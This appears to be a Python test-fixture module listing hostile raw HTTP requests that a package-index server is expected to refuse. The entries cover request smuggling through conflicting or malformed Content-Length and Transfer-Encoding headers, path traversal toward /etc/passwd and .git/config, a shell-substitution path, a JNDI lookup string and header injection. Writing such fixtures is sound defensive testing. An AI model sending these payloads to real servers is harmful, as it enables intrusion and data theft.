"""Requests that no honest client sends: shared by the tests of abuse and of what it may open.

`MARK` in a request stands for a word of the same length that is the test's own, by which it finds
in the access log what the server took for a request.
"""

from __future__ import annotations

from dataclasses import dataclass

MARK = b"@@@@@@@@"
HEAD = b"POST /health HTTP/1.1\r\nHost: a\r\n"
SMUGGLED = b"GET /simple/@@@@@@@@/ HTTP/1.1\r\nHost: a\r\n\r\n"
LAST = b"GET /health HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"


def _chunk(data: bytes, size: bytes | None = None) -> bytes:
    return (size or b"%x" % len(data)) + b"\r\n" + data + b"\r\n"


def _with_length(value: bytes, body: bytes = SMUGGLED) -> bytes:
    return HEAD + b"Content-Length:" + value + b"\r\n\r\n" + body


def _with_coding(lines: bytes, body: bytes = b"0\r\n\r\n" + SMUGGLED) -> bytes:
    return HEAD + lines + b"\r\n" + body


def _with_chunk(first_line: bytes, data: bytes = SMUGGLED, end: bytes = b"\r\n") -> bytes:
    return HEAD + CHUNKED + b"\r\n" + first_line + data + end + b"0\r\n\r\n"


_SIZE = b"%x" % len(SMUGGLED)
_LENGTH = b"%d" % len(SMUGGLED)

# Framing that two programs could read differently: one 400, and the connection ends.
AMBIGUOUS: dict[str, bytes] = {
    "length-then-chunked": _with_coding(b"Content-Length: 5\r\n" + CHUNKED),
    "chunked-then-length": _with_coding(CHUNKED + b"Content-Length: 5\r\n"),
    "length-zero-and-chunked": _with_coding(b"Content-Length: 0\r\n" + CHUNKED),
    "lengths-equal": _with_coding(b"Content-Length: 0\r\nContent-Length: 0\r\n", SMUGGLED),
    "lengths-unequal": _with_coding(b"Content-Length: 0\r\nContent-Length: 44\r\n", SMUGGLED),
    "length-list": _with_length(b" 0, 0"),
    "length-sign": _with_length(b" +0"),
    "length-minus": _with_length(b" -0"),
    "length-hex": _with_length(b" 0x0"),
    "length-inner-space": _with_length(b" 0 0"),
    "length-underscore": _with_length(b" 0_0"),
    "length-of-no-ascii": _with_length(b" \xd9\xa0"),
    "length-empty": _with_length(b""),
    "length-blank": _with_length(b" "),
    "length-vertical-tab": _with_length(b" \x0b0"),
    "length-semicolon": _with_length(b" 0;"),
    "length-overflow-64": _with_length(b" 18446744073709551616"),
    "length-overflow-far": _with_length(b" " + b"9" * 60),
    "coding-twice": _with_coding(CHUNKED + CHUNKED),
    "coding-listed-twice": _with_coding(b"Transfer-Encoding: chunked, chunked\r\n"),
    "coding-unknown": _with_coding(b"Transfer-Encoding: xchunked\r\n"),
    "coding-identity": _with_coding(b"Transfer-Encoding: identity\r\n"),
    "coding-then-identity": _with_coding(b"Transfer-Encoding: chunked, identity\r\n"),
    "coding-quoted": _with_coding(b'Transfer-Encoding: "chunked"\r\n'),
    "coding-parameter": _with_coding(b"Transfer-Encoding: chunked;q=1\r\n"),
    "coding-empty": _with_coding(b"Transfer-Encoding:\r\n"),
    "coding-vertical-tab": _with_coding(b"Transfer-Encoding: \x0bchunked\r\n"),
    "coding-space-behind": _with_coding(b"Transfer-Encoding: chunked \t\r\n"),
    "coding-nul": _with_coding(b"Transfer-Encoding: chunked\x00\r\n"),
    "coding-hidden-and-length": _with_coding(
        b"Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n"
    ),
    "coding-space-before-colon": _with_coding(b"Transfer-Encoding : chunked\r\n"),
    "coding-tab-before-colon": _with_coding(b"Transfer-Encoding\t: chunked\r\n"),
    "coding-space-before-name": _with_coding(b" Transfer-Encoding: chunked\r\n"),
    "coding-folded": _with_coding(b"Transfer-Encoding:\r\n chunked\r\n"),
    "coding-behind-fold": _with_coding(b"X: y\r\n Transfer-Encoding: chunked\r\n"),
    "coding-behind-bare-cr": _with_coding(b"X: y\rTransfer-Encoding: chunked\r\n"),
    "length-folded": _with_length(b"\r\n 0"),
    "length-space-before-colon": _with_coding(b"Content-Length : 0\r\n", SMUGGLED),
    "length-nul-before-colon": _with_coding(b"Content-Length\x00: 0\r\n", SMUGGLED),
    "nul-in-name": _with_coding(b"X\x00Y: 1\r\n", SMUGGLED),
    "nul-in-value": _with_coding(b"X: 1\x00\r\n", SMUGGLED),
    "bare-cr-in-value": _with_coding(b"X: a\rb\r\n", SMUGGLED),
    "bare-cr-as-line-end": b"POST /health HTTP/1.1\rHost: a\r\r" + SMUGGLED,
    "name-with-space": _with_coding(b"X Y: 1\r\n", SMUGGLED),
    "name-empty": _with_coding(b": 1\r\n", SMUGGLED),
    "line-without-colon": _with_coding(b"nonsense\r\n", SMUGGLED),
    "two-hosts": _with_coding(b"Host: b\r\n", SMUGGLED),
    "coding-in-1.0": b"POST /health HTTP/1.0\r\nHost: a\r\n"
    + CHUNKED
    + b"\r\n0\r\n\r\n"
    + SMUGGLED,
}

# A good head and a body that is not to be read: the answer may be out already, the connection ends.
BROKEN_BODIES: dict[str, bytes] = {
    "size-no-hex": _with_chunk(b"zz\r\n"),
    "size-empty": _with_chunk(b"\r\n"),
    "size-sign": _with_chunk(b"+" + _SIZE + b"\r\n"),
    "size-minus": _with_chunk(b"-1\r\n"),
    "size-0x": _with_chunk(b"0x" + _SIZE + b"\r\n"),
    "size-underscore": _with_chunk(b"0_0\r\n"),
    "size-leading-space": _with_chunk(b" " + _SIZE + b"\r\n"),
    "size-overflow-64": _with_chunk(b"1" + b"0" * 16 + b"\r\n"),
    "size-overflow-far": _with_chunk(b"f" * 60 + b"\r\n"),
    "size-line-ends-bare-cr": _with_chunk(_SIZE + b"\r"),
    "size-line-ends-bare-lf": _with_chunk(_SIZE + b"\n"),
    "size-nul": _with_chunk(_SIZE + b"\x00\r\n"),
    "extension-with-bare-lf": _with_chunk(_SIZE + b";a\nb\r\n"),
    "extension-with-bare-cr": _with_chunk(_SIZE + b";a\rb\r\n"),
    "extension-ends-bare-lf": _with_chunk(b"2;\nxx\r\n" + _SIZE + b"\r\n"),
    "chunk-without-end": HEAD + CHUNKED + b"\r\n1\r\nxGET /simple/@@@@@@@@/ HTTP/1.1\r\n\r\n",
    "chunk-longer-than-said": _with_chunk(b"1\r\n"),
    "chunk-ends-bare-lf": _with_chunk(_SIZE + b"\r\n", end=b"\n"),
    "trailer-folded": HEAD + CHUNKED + b"\r\n0\r\nX: y\r\n z\r\n\r\n" + b"",
    "trailer-without-colon": HEAD + CHUNKED + b"\r\n0\r\nGET /simple/@@@@@@@@/ HTTP/1.1\r\n\r\n",
}

# Odd, but with one meaning only: the body is swallowed and the next request answered.
ODD: dict[str, bytes] = {
    "length": _with_length(b" " + _LENGTH),
    "length-with-zeros": _with_length(b" 000" + _LENGTH),
    "length-with-space": _with_length(b" \t" + _LENGTH + b" \t "),
    "length-on-get": b"GET /health HTTP/1.1\r\nHost: a\r\nContent-Length: "
    + _LENGTH
    + b"\r\n\r\n"
    + SMUGGLED,
    "chunked": _with_chunk(_SIZE + b"\r\n"),
    "chunked-upper-case": HEAD
    + b"TRANSFER-ENCODING: CHUNKED\r\n\r\n"
    + _chunk(SMUGGLED)
    + b"0\r\n\r\n",
    "chunk-extension": _with_chunk(_SIZE + b';a="b";c\r\n'),
    "chunk-of-zeros": _with_chunk(b"0000" + _SIZE + b"\r\n"),
    "trailer": HEAD
    + CHUNKED
    + b"\r\n"
    + _chunk(SMUGGLED)
    + b"0\r\nX-Forwarded-For: 6.6.6.6\r\n\r\n",
    "empty-lines-before": b"\r\n\r\n" + _with_length(b" " + _LENGTH),
}


@dataclass(frozen=True, slots=True)
class Ask:
    """A whole request, what may be answered (no status: closed without a word is right too)."""

    data: bytes
    statuses: tuple[int, ...]
    may_be_silent: bool = False


def get(target: bytes, *fields: bytes, method: bytes = b"GET") -> bytes:
    """A request that asks for the connection to be closed."""
    lines = [method + b" " + target + b" HTTP/1.1", b"Host: a", *fields, b"Connection: close"]
    return b"\r\n".join([*lines, b"", b""])


REFUSED = (400, 404)

TARGETS: dict[str, bytes] = {
    "dots": b"/simple/../../../../etc/passwd",
    "dots-encoded": b"/simple/%2e%2e/%2e%2e/etc/passwd",
    "dots-half-encoded": b"/simple/.%2E/%2e./etc/passwd",
    "dots-twice-encoded": b"/simple/%252e%252e/%252e%252e/etc/passwd",
    "dots-thrice-encoded": b"/simple/%25252e%25252e%25252fetc",
    "dots-overlong": b"/simple/%c0%ae%c0%ae/etc/passwd",
    "dots-full-width": b"/simple/%ef%bc%8e%ef%bc%8e/etc/passwd",
    "dots-with-parameters": b"/simple/..;/..;x=y/etc/passwd",
    "slash-encoded": b"/simple/foo-bar%2f..%2f..%2fetc%2fpasswd",
    "slash-mixed-case": b"/simple/foo-bar%2F..%2f",
    "slash-twice-encoded": b"/simple/foo-bar/..%252f..%252fetc%252fpasswd",
    "slash-overlong": b"/simple/foo-bar/..%c0%af..%c0%afetc",
    "slash-overlong-three": b"/simple/foo-bar/%e0%80%af..",
    "slash-full-width": b"/simple/foo-bar/%ef%bc%8fetc",
    "backslash": b"/simple/foo-bar\\..\\..\\etc\\passwd",
    "backslash-encoded": b"/simple/foo-bar/..%5c..%5cetc",
    "backslash-twice-encoded": b"/simple/foo-bar/..%255c..%255Cetc",
    "backslash-overlong": b"/simple/foo-bar/%c1%9cetc",
    "nul-encoded": b"/simple/foo-bar%00/",
    "nul-in-file-name": b"/simple/foo-bar/foo_bar-1.0.tar.gz%00.whl",
    "nul-twice-encoded": b"/simple/foo-bar%2500/",
    "nul-overlong": b"/simple/foo-bar%c0%80/",
    "line-end": b"/simple/foo-bar%0d%0aX-Injected:%20@@@@@@@@/",
    "absolute-path": b"/simple//etc/passwd",
    "absolute-file": b"/simple/foo-bar//etc/passwd",
    "drive": b"/simple/foo-bar/C:/windows/win.ini",
    "device": b"/simple/foo-bar/nul.tar.gz",
    "file-url": b"/simple/foo-bar/file:///etc/passwd",
    "url-in-path": b"/simple/http://other.example/x.whl",
    "percent-alone": b"/simple/foo-bar/%",
    "percent-of-no-hex": b"/simple/foo-bar/%u002e%u002e/",
    "stream": b"/simple/foo-bar/foo_bar-1.0.tar.gz::$DATA",
    "glob": b"/simple/*/?*[a-z]",
    "home": b"/simple/~root/",
    "shell": b"/simple/$(id)/`id`;id|id",
    "template": b"/simple/{{7*7}}/${jndi:ldap://other.example/@@@@@@@@}/",
    "own-store": b"/blobs/00/00",
    "own-index": b"/../index.sqlite3",
    "dot-file": b"/.git/config",
    "bidi": b"/simple/foo-bar/%e2%80%aegz.rat.0.1-rab_oof.whl",
}

# All the rest. The absolute form must be understood (RFC 9112 §3.2.2): its path is what counts, its
# host is neither looked up nor asked.
FORMS: dict[str, Ask] = {
    "absolute-form": Ask(get(b"http://other.example/simple/foo-bar/"), (200,)),
    "absolute-form-of-our-own": Ask(get(b"http://a/simple/foo-bar/"), (200,)),
    "absolute-form-without-path": Ask(get(b"http://a"), (200,)),
    "absolute-form-with-a-query-only": Ask(get(b"HTTP://a:80?x=/y"), (200,)),
    "absolute-form-https": Ask(get(b"https://other.example:443/nothing/"), (404,)),
    "absolute-form-file": Ask(get(b"file:///etc/passwd"), (400,)),
    "absolute-form-userinfo": Ask(get(b"http://u:p@other.example/nothing/"), (400, 404)),
    "authority-form": Ask(get(b"other.example:443"), (400,)),
    "asterisk-form": Ask(get(b"*"), (400,)),
    "asterisk-options": Ask(get(b"*", method=b"OPTIONS"), (400, 405)),
    "no-slash": Ask(get(b"simple/foo-bar/"), (400,)),
    "empty-target": Ask(b"GET  HTTP/1.1\r\nHost: a\r\n\r\n", (400,)),
    "fragment": Ask(get(b"/health#/simple/@@@@@@@@/"), (200, 400)),
    "raw-nul": Ask(get(b"/simple/foo\x00bar/"), (400,)),
    "raw-high-bytes": Ask(get(b"/simple/f\xc3\xb6o/"), (400,)),
    "raw-tab": Ask(get(b"/simple/foo\tbar/"), (400,)),
    "connect": Ask(get(b"other.example:443", method=b"CONNECT"), (400, 405)),
    "connect-with-path": Ask(get(b"/simple/foo-bar/", method=b"CONNECT"), (400, 405)),
    "trace": Ask(get(b"/simple/foo-bar/", b"X-Secret: @@@@@@@@", method=b"TRACE"), (405,)),
    "unknown-method": Ask(get(b"/simple/foo-bar/", method=b"BREW"), (400, 405)),
    "small-method": Ask(get(b"/simple/foo-bar/", method=b"get"), (400, 405)),
    "propfind": Ask(get(b"/simple/", method=b"PROPFIND"), (405,)),
    "purge": Ask(get(b"/simple/foo-bar/", method=b"PURGE"), (405,)),
    "long-method": Ask(get(b"/health", method=b"A" * 40_000), (400,)),
    "http-0.9": Ask(b"GET /simple/@@@@@@@@/\r\n\r\n", (400,), may_be_silent=True),
    "http-0.9-bare": Ask(b"GET /simple/@@@@@@@@/\n\n", (400,), may_be_silent=True),
    "http-0.9-said": Ask(b"GET /health HTTP/0.9\r\nHost: a\r\n\r\n", (400,)),
    "http-1.2": Ask(b"GET /health HTTP/1.2\r\nHost: a\r\n\r\n", (400,)),
    "http-3.0": Ask(b"GET /health HTTP/3.0\r\nHost: a\r\n\r\n", (400,)),
    "http-1.10": Ask(b"GET /health HTTP/1.10\r\nHost: a\r\n\r\n", (400,)),
    "other-protocol": Ask(b"GET /health ICE/1.0\r\nHost: a\r\n\r\n", (400,)),
    "rtsp": Ask(b"DESCRIBE rtsp://a/x RTSP/1.0\r\nCSeq: 2\r\n\r\n", (400, 404)),
    "http-2-preface": Ask(
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00", (400,)
    ),
    "tls-hello": Ask(
        bytes.fromhex("16030100c8010000c40303") + bytes(range(193)), (400,), may_be_silent=True
    ),
    "ssh-banner": Ask(b"SSH-2.0-OpenSSH_9.9\r\n", (400,), may_be_silent=True),
    "proxy-protocol": Ask(b"PROXY TCP4 6.6.6.6 6.6.6.6 1 2\r\n" + LAST, (400,)),
    "smtp": Ask(b"EHLO other.example\r\nMAIL FROM:<@@@@@@@@>\r\n", (400,), may_be_silent=True),
    "zeros": Ask(bytes(4096), (400,), may_be_silent=True),
    "high-bytes": Ask(b"\xff" * 4096, (400,), may_be_silent=True),
    "line-ends": Ask(b"\r\n" * 2000 + LAST, (200, 400)),
    "upgrade-h2c": Ask(
        get(b"/health", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAAP__").replace(
            b"Connection: close", b"Connection: Upgrade, HTTP2-Settings"
        )
        + SMUGGLED,
        (200,),
    ),
    "upgrade-websocket": Ask(
        get(b"/health", b"Upgrade: websocket", b"Sec-WebSocket-Version: 13").replace(
            b"Connection: close", b"Connection: Upgrade\r\nSec-WebSocket-Key: AAAA"
        )
        + SMUGGLED,
        (200,),
    ),
    "no-host": Ask(b"GET /health HTTP/1.1\r\n\r\n", (400,)),
    "headers-10000": Ask(get(b"/health", *[b"X-%d: 1" % n for n in range(10_000)]), (400,)),
    "headers-same-10000": Ask(get(b"/health", *[b"A: b"] * 10_000), (400,)),
    "header-of-a-megabyte": Ask(get(b"/health", b"X: " + b"a" * 1024**2), (400,)),
    "header-name-of-a-megabyte": Ask(get(b"/health", b"a" * 1024**2 + b": x"), (400,)),
    "head-over-32-kib": Ask(get(b"/health", b"X: " + b"a" * 33_000), (400,)),
    "head-of-30-kib": Ask(get(b"/health", b"X: " + b"a" * 30_000), (200,)),
    "url-of-64-kib": Ask(get(b"/simple/" + b"a" * 65_536 + b"/"), (400, 414)),
    "query-of-64-kib": Ask(get(b"/simple/?" + b"a" * 65_536), (400, 414)),
    "path-over-2-kib": Ask(get(b"/simple/" + b"a" * 3_000 + b"/"), (400,)),
    "slashes-2000": Ask(get(b"/" * 2_000), (200, 404)),
    "segments-1000": Ask(get(b"/a" * 1_000), (404,)),
    "query-of-fields": Ask(get(b"/simple/foo-bar/?" + b"&".join([b"format=x"] * 800)), (406,)),
    "cookies": Ask(get(b"/health", b"Cookie: " + b"a=b; " * 5_000), (200,)),
}
